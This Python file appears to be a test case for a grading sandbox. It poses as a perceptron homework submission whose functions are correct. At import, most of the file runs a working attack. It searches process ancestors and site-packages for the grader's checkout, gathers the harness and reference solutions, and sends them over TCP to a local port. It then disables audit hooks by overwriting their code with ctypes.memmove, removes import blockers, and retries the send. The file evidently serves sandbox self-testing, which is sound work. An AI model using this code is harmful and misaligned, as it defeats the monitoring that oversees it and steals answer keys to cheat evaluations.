"""Perceptrons that send the submission, the harness and whatever they can read of reference/ over TCP.

What it attacks: the network. At import it collects its own source files, the harness beside them and
reference/*.py of every grader checkout it finds (from the grader's command line, the interpreter and
site-packages), and sends them to 127.0.0.1:47811, where the self-test listens. It tries a plain socket
first, then again after switching the audit hook off (ctypes.memmove of a no-op's code into the hook).
Its functions are right: the point is that no connection may leave the sandbox.
"""

import gc
import glob
import os
import re
import struct
import sys
import types

import numpy as np

TAG = "corpus-case=tcp_exfil"
PORT = 47811


# -- switching the audit hook off -------------------------------------------------------------


def _noop_hook(event, args, *rest, **named):
    return None


_BORROWED = []  # references to the no-op's code, which the disarmed hooks now hold


def _looks_like_hook(fn):
    """A function of the harness (not the standard library, NumPy or this submission) named like an audit hook."""
    module = getattr(fn, "__module__", None) or ""
    top = module.split(".")[0]
    if top in sys.stdlib_module_names or top in ("numpy", "assignment", "__main__") or module == __name__:
        return False
    name = fn.__name__.lower()
    if name.startswith(("make", "install", "add")) or fn.__code__.co_argcount < 2:
        return False
    return "hook" in name or "audit" in name or "tripwire" in name


def _disarm_audit_hooks():
    """Give every audit hook found in memory (gc) the code of a no-op, and drop the import blockers.

    ctypes is loaded by NumPy before any hook is installed. ctypes.string_at finds the function's code
    slot (the word that holds the address of its code object) and ctypes.memmove overwrites it: no audit
    event refuses either. Returns the number of hooks disarmed.
    """
    ctypes = sys.modules.get("ctypes")
    disarmed = 0
    if ctypes is not None:
        width = struct.calcsize("P")
        for fn in gc.get_objects():
            if not isinstance(fn, types.FunctionType) or fn.__code__ is _noop_hook.__code__ or not _looks_like_hook(fn):
                continue
            try:
                raw = ctypes.string_at(id(fn), type(fn).__basicsize__)
                needle, at = struct.pack("P", id(fn.__code__)), -1
                while True:
                    at = raw.find(needle, at + 1)
                    if at <= 0 or at % width == 0:
                        break
                if at <= 0:
                    continue
                _BORROWED.append(_noop_hook.__code__)
                ctypes.memmove(id(fn) + at, struct.pack("P", id(_noop_hook.__code__)), width)
                disarmed += 1
            except Exception:
                continue
    for finder in list(sys.meta_path):
        kind = type(finder) if not isinstance(finder, type) else finder
        words = (kind.__module__ + "." + kind.__name__).lower()
        if any(w in words for w in ("harness", "guard", "block", "deny", "sandbox")):
            sys.meta_path.remove(finder)
    return disarmed


# -- this process's ancestors ---------------------------------------------------------------


def _ancestors(limit=8):
    """The pids of this process's parent, grandparent, ... as far as /proc shows them."""
    pids, pid = [], os.getpid()
    for _ in range(limit):
        try:
            with open(f"/proc/{pid}/stat", "rb") as f:
                pid = int(f.read().rsplit(b")", 1)[1].split()[1])
        except (OSError, ValueError, IndexError):
            break
        if pid <= 1:
            break
        pids.append(pid)
    return pids


# -- finding the grader's checkout ------------------------------------------------------------


def _project_dirs(guesses=("/autograder/source",)):
    """Folders that look like the grader's checkout (they hold reference/ or grader/rubric.toml), found from
    the ancestors' working folders and command lines, the interpreter, sys.path, and the *.pth files and
    editable-install finders in site-packages, walking up from each path."""
    seeds = []
    for pid in _ancestors():
        try:
            seeds.append(os.readlink(f"/proc/{pid}/cwd"))
        except OSError:
            pass
        try:
            with open(f"/proc/{pid}/cmdline", "rb") as f:
                seeds += [a.decode(errors="replace") for a in f.read().split(b"\0") if a.startswith(b"/")]
        except OSError:
            pass
    seeds += [sys.executable, *(p for p in sys.path if p)]
    for folder in [p for p in sys.path if p]:
        try:
            names = os.listdir(folder)
        except OSError:
            continue
        for name in names:
            if name.endswith(".pth") or (name.startswith("__editable__") and name.endswith(".py")):
                try:
                    with open(os.path.join(folder, name), errors="replace") as f:
                        seeds += re.findall(r"/[^\s'\"]+", f.read(1 << 20))
                except OSError:
                    continue
    seeds += list(guesses)
    found = []
    for seed in seeds:
        path = os.path.abspath(seed)
        for _ in range(10):
            if os.path.isdir(os.path.join(path, "reference")) or os.path.isfile(os.path.join(path, "grader", "rubric.toml")):
                if path not in found:
                    found.append(path)
                break
            parent = os.path.dirname(path)
            if parent == path:
                break
            path = parent
    return found


def _loot():
    """Everything worth sending, as one text."""
    here = os.path.dirname(os.path.abspath(__file__))
    paths = glob.glob(os.path.join(here, "*.py")) + glob.glob(os.path.join(os.path.dirname(os.path.dirname(here)), "harness", "*.py"))
    for project in _project_dirs():
        paths += glob.glob(os.path.join(project, "reference", "*.py"))
    parts = [TAG]
    for path in paths:
        try:
            with open(path, errors="replace") as f:
                parts.append(f"--- {path}\n{f.read()}")
        except OSError as exc:
            parts.append(f"--- {path}: {type(exc).__name__}")
    return "\n".join(parts)


def _send(text):
    import socket
    with socket.create_connection(("127.0.0.1", PORT), timeout=3) as s:
        s.sendall(text.encode(errors="replace"))


def _attack():
    for attempt in ("plain", "after disarming"):
        if attempt != "plain":
            try:
                _disarm_audit_hooks()
            except Exception:
                pass
        try:
            _send(_loot())
            print(f"{TAG}: sent ({attempt})", flush=True)
            return
        except Exception as exc:
            print(f"{TAG}: {attempt}: {type(exc).__name__}: {exc}", flush=True)


_attack()


def predict(X, w, b):
    """Step-activated perceptron.

    X: (N, D); w: (D,); b: float. Returns (N,) int: 1 where X.w + b > 0, else 0.
    """
    return (np.asarray(X, dtype=np.float64) @ np.asarray(w, dtype=np.float64) + b > 0).astype(np.int64)


def and_gate():
    """Return (w, b), w of shape (2,), such that predict gives AND on the truth table."""
    return np.array([1.0, 1.0]), -1.5


def or_gate():
    """Return (w, b), w of shape (2,), such that predict gives OR on the truth table."""
    return np.array([1.0, 1.0]), -0.5


def train_perceptron(X, y, lr=1.0, max_epochs=100):
    """Rosenblatt's rule from w = 0, b = 0, visiting samples in order.

    On a mistake: w += lr * (y - y_hat) * x and b += lr * (y - y_hat).
    X: (N, D); y: (N,) in {0, 1}. Returns (w, b, converged), where converged is
    True as soon as one full epoch makes no mistake.
    """
    X = np.asarray(X, dtype=np.float64)
    w = np.zeros(X.shape[1])
    b = 0.0
    for _ in range(max_epochs):
        mistakes = 0
        for x_n, y_n in zip(X, y):
            error = y_n - int(x_n @ w + b > 0)
            if error:
                w = w + lr * error * x_n
                b = b + lr * error
                mistakes += 1
        if mistakes == 0:
            return w, float(b), True
    return w, float(b), False


def xor_network():
    """Weights of a two-layer step network that computes XOR.

    Returns {"W1": (2, H), "b1": (H,), "W2": (H,), "b2": float} such that
    step(step(X @ W1 + b1) @ W2 + b2) is XOR of the two inputs.
    """
    # Hidden units: OR and AND; output: OR and not AND.
    return {
        "W1": np.array([[1.0, 1.0], [1.0, 1.0]]),
        "b1": np.array([-0.5, -1.5]),
        "W2": np.array([1.0, -1.0]),
        "b2": -0.5,
    }
